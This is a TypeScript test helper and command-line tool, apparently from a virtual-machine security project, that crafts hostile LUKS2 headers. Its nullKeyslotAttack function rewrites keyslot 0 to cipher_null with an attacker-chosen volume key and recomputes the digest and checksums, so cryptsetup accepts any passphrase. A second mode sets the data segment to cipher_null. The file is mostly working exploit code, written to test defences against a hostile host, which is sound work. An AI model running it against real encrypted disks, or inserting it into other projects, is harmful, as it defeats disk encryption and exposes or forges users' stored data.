/**
 * What a hostile host does to a LUKS2 header: edit its JSON and recompute both copies' checksums,
 * so the header is valid to cryptsetup. Test helper, and a host-side tool for the VM scenario:
 *
 *   bun agent/testkit/luks-craft.ts FILE keyslot-cipher-null   # any key opens keyslot 0
 *   bun agent/testkit/luks-craft.ts FILE segment-cipher-null
 *
 * keyslot-cipher-null writes a working attack: keyslot 0 becomes cipher_null with one AF stripe
 * holding a volume key the "host" chose (ATTACK_VOLUME_KEY), and the digest is recomputed for it,
 * so cryptsetup 2.6.1 opens the volume with any passphrase (CVE-2025-59054 class).
 */
import { createHash, pbkdf2Sync, randomBytes } from "node:crypto";
import { closeSync, openSync, readSync, writeSync } from "node:fs";

/** Parsed LUKS2 metadata, loosely typed: the point is to write what a hostile host would. */
// biome-ignore lint/suspicious/noExplicitAny: crafted JSON is edited freely
export type Json = Record<string, any>;

const CHECKSUM_OFFSET = 448;
const BIN = 4096;

function readAt(file: string, offset: number, length: number): Buffer {
  const fd = openSync(file, "r");
  try {
    const buf = Buffer.alloc(length);
    readSync(fd, buf, 0, length, offset);
    return buf;
  } finally {
    closeSync(fd);
  }
}

function writeAt(file: string, offset: number, bytes: Uint8Array): void {
  const fd = openSync(file, "r+");
  try {
    writeSync(fd, bytes, 0, bytes.length, offset);
  } finally {
    closeSync(fd);
  }
}

export const hdrSizeOf = (file: string) => Number(readAt(file, 8, 8).readBigUInt64BE(0));

export function readJson(file: string): Json {
  const area = readAt(file, BIN, hdrSizeOf(file) - BIN);
  const end = area.indexOf(0);
  return JSON.parse(area.subarray(0, end < 0 ? area.length : end).toString());
}

/** Replace the JSON of both header copies (checksums recomputed, seqid kept: both stay valid). */
export function writeJson(
  file: string,
  json: unknown,
  which: "both" | "primary" | "secondary" = "both",
): void {
  const size = hdrSizeOf(file);
  const text = Buffer.from(typeof json === "string" ? json : JSON.stringify(json));
  if (text.length >= size - BIN)
    throw new Error(`JSON of ${text.length} bytes does not fit hdr_size ${size}`);
  for (const offset of which === "both" ? [0, size] : which === "primary" ? [0] : [size]) {
    const area = readAt(file, offset, size);
    area.fill(0, BIN);
    text.copy(area, BIN);
    area.fill(0, CHECKSUM_OFFSET, CHECKSUM_OFFSET + 64);
    createHash("sha256").update(area).digest().copy(area, CHECKSUM_OFFSET);
    writeAt(file, offset, area);
  }
}

export function editJson(file: string, edit: (json: Json) => void): void {
  const json = readJson(file);
  edit(json);
  writeJson(file, json);
}

/** The volume key the attacking host puts in the cipher_null keyslot (it knows it, so it reads every write). */
export const ATTACK_VOLUME_KEY = Buffer.alloc(64, 0x41);

/**
 * Keyslot 0 as cipher_null with one AF stripe: the AF merge of one stripe is the stripe itself,
 * and cipher_null "decrypts" to the stored bytes whatever the passphrase, so any key yields
 * ATTACK_VOLUME_KEY; the digest is recomputed so cryptsetup accepts that key.
 */
export function nullKeyslotAttack(file: string, volumeKey = ATTACK_VOLUME_KEY): void {
  editJson(file, (j) => {
    const ks = j.keyslots["0"];
    ks.key_size = volumeKey.length;
    ks.af.stripes = 1;
    ks.area.encryption = "cipher_null-ecb";
    ks.area.key_size = 0;
    writeAt(file, Number(ks.area.offset), volumeKey);
    const d = j.digests["0"];
    const salt = randomBytes(32);
    d.salt = salt.toString("base64");
    d.digest = pbkdf2Sync(volumeKey, salt, d.iterations, 32, d.hash).toString("base64");
  });
}

if (import.meta.main) {
  const [file, attack] = process.argv.slice(2);
  if (!file || !attack) {
    console.error("usage: luks-craft.ts FILE keyslot-cipher-null|segment-cipher-null");
    process.exit(2);
  }
  if (attack === "keyslot-cipher-null") nullKeyslotAttack(file);
  else if (attack === "segment-cipher-null")
    editJson(file, (j) => {
      j.segments["0"].encryption = "cipher_null-ecb";
    });
  else {
    console.error(`unknown attack ${attack}`);
    process.exit(2);
  }
}
